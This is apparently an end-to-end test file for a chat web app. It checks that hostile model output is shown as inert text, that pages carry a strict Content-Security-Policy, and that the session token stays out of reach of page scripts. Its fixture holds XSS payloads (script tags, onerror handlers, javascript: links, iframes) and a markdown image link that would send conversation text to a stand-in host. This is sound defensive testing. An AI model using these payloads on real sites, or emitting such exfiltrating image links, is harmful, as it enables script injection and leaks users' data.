"""Model output is untrusted: no script runs, nothing loads from another origin, links open safely.
And the page itself is served under a strict Content-Security-Policy.

Every test runs on both paths: ``parley serve`` and the serverless emulation (``make aws-local``)."""

from __future__ import annotations

import json

import httpx
from playwright.sync_api import Page, expect

from e2e.support import PageWatch, Server, User, answers, login, on_both_homes, send, wait_connected, wait_idle
from parley.testing.fake_openai import FakeOpenAI, Script

HOSTILE = (
    "Here you go:\n\n",
    "<script>window.__pwned = 'script'</script>\n\n",
    "Inline <img src=x onerror=\"window.__pwned='img'\"> and <b onmouseover=\"window.__pwned='b'\">bold</b>\n\n",
    "[click me](javascript:window.__pwned='link') and [data](data:text/html,<script>alert(1)</script>)\n\n",
    "![tracking pixel](https://example.invalid/x.png?secret=conversation-text)\n\n",
    '<iframe src="https://example.invalid/frame"></iframe>\n\n',
    "A [real link](https://example.invalid/docs) too.\n",
)


server = on_both_homes()


def test_hostile_answer_runs_no_script_and_loads_nothing_from_elsewhere(
    page: Page, user: User, fake: FakeOpenAI, watch: PageWatch
) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    login(page, user)
    fake.script = Script(tokens=HOSTILE, token_delay=0.02)
    send(page, "Summarise this web page for me")
    answer = answers(page).first
    expect(answer).to_contain_text("A real link too.")
    wait_idle(page)

    # Raw HTML shows as text; nothing became an element.
    expect(answer).to_contain_text("<script>window.__pwned = 'script'</script>")
    expect(answer).to_contain_text("<img src=x onerror=\"window.__pwned='img'\">")
    assert answer.locator("script, img, iframe, b, [onerror], [onmouseover]").count() == 0

    # The javascript: and data: links are plain text; clicking does nothing.
    expect(answer.get_by_role("link", name="click me")).to_have_count(0)
    answer.get_by_text("click me").click()
    answer.get_by_text("data", exact=True).click()

    # The external image is a link, not an image; real links open in a new tab without opener or referrer.
    image_link = answer.get_by_role("link", name="tracking pixel")
    expect(image_link).to_have_attribute("href", "https://example.invalid/x.png?secret=conversation-text")
    for link in (image_link, answer.get_by_role("link", name="real link")):
        expect(link).to_have_attribute("target", "_blank")
        expect(link).to_have_attribute("rel", "noopener noreferrer")

    answer.hover()
    page.reload()  # and again from the saved answer
    expect(answers(page).first).to_contain_text("A real link too.")
    page.wait_for_timeout(300)

    assert page.evaluate("window.__pwned") is None
    assert not [url for url in requests if "example.invalid" in url]
    assert not watch.foreign_requests
    assert not watch.dialogs


def test_the_page_is_served_with_a_strict_csp(server: Server) -> None:
    for path in ("/", "/c/some-chat"):
        response = httpx.get(server.base_url + path)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/html")
        csp = response.headers["content-security-policy"]
        directives = dict(part.strip().split(" ", 1) for part in csp.split(";"))
        assert directives["script-src"] == "'self'"
        assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
        assert directives["object-src"] == "'none'"
        assert directives["frame-ancestors"] == "'none'"
        assert "<script>" not in response.text  # no inline scripts to allow


def test_the_session_token_is_out_of_page_scripts_reach(page: Page, user: User, fake: FakeOpenAI) -> None:
    # An injected script can do what the page does while it is open, but it cannot carry the 12-hour token away:
    # the token is in an HttpOnly cookie, and nothing the page can read holds it. The app still works after a reload.
    fake.script = Script(tokens=("Still ", "here."))
    login(page, user)
    page.reload()
    wait_connected(page)  # the WebSocket's ticket was asked for with the cookie
    send(page, "Are you there?")
    expect(answers(page).last).to_contain_text("Still here.")
    wait_idle(page)

    (cookie,) = [c for c in page.context.cookies() if c["name"] == "parley_session"]
    assert cookie["httpOnly"] and cookie["sameSite"] == "Strict" and cookie["path"] == "/api"
    token = cookie["value"]
    assert token.count(".") == 2  # the session's JWT
    readable = page.evaluate(
        """() => ({
            local: Object.entries(localStorage),
            session: Object.entries(sessionStorage),
            cookie: document.cookie,
        })"""
    )
    seen = json.dumps(readable)
    assert token not in seen and token.split(".")[1] not in seen and "eyJ" not in seen, readable
    assert readable["cookie"] == ""
    assert user.name in seen  # what is kept is who is signed in, not how
